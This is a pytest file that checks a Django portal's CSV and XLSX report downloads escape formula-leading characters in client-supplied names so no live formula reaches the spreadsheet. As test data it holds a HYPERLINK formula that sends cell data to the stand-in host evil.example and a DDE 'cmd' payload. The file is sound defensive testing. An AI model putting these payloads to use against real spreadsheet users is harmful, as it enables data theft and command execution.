"""Downloads never carry a live formula: labels from clients stay text in every CSV and XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.services import team_create
from greenai_portal.spreadsheets import FORMULA_LEADS, csv_text
from tests.conftest import workload
from tests.inventory.test_pipeline import posted_and_computed

HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
HOSTILE_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
Q1 = "year=2026&quarter=1"


def test_it_quotes_out_every_formula_lead_and_leaves_numbers_alone():
    text = csv_text([["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b", -2.5, 0, None]])
    row = next(csv.reader(io.StringIO(text)))
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "a=b", "-2.5", "0", ""]


@pytest.fixture
def hostile(tenant):
    """One record of a model and a team whose names are formulas, sent with an ingest token."""
    team_create(organisation=tenant.organisation, name=HOSTILE_TEAM, slug="hostile")
    record = workload(
        external_id="evil-1",
        team="hostile",
        model=HOSTILE_MODEL,
        started_at="2026-01-05T00:00:00Z",
        ended_at="2026-01-05T10:00:00Z",
    )
    posted_and_computed(tenant, [record])
    return tenant.client_for("admin")


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.mark.django_db
def test_the_scope2_xlsx_has_no_formula_cell_and_keeps_the_names_as_text(hostile):
    response = hostile.get(f"/api/v1/reports/scope2/xlsx/?{Q1}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    named = {c.value: c for c in cells if c.value in (HOSTILE_MODEL, HOSTILE_TEAM)}
    assert set(named) == {HOSTILE_MODEL, HOSTILE_TEAM}
    assert all(c.data_type == "s" and c.quotePrefix for c in named.values())


@pytest.mark.django_db
def test_the_scope2_csv_quotes_out_the_names(hostile):
    cells = csv_cells(hostile.get(f"/api/v1/reports/scope2/csv/?{Q1}"))
    assert "'" + HOSTILE_MODEL in cells and "'" + HOSTILE_TEAM in cells
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]


@pytest.mark.django_db
def test_the_chart_downloads_quote_out_the_names(hostile):
    top_models = csv_cells(hostile.get("/?start=2026-01-01&end=2026-04-01&download=top-models"))
    assert "'" + HOSTILE_MODEL in top_models
    trend = csv_cells(hostile.get("/?start=2026-01-01&end=2026-04-01&download=trend-scope2"))
    assert "'" + HOSTILE_TEAM in trend
    assert not [c for c in top_models + trend if c.startswith(FORMULA_LEADS)]
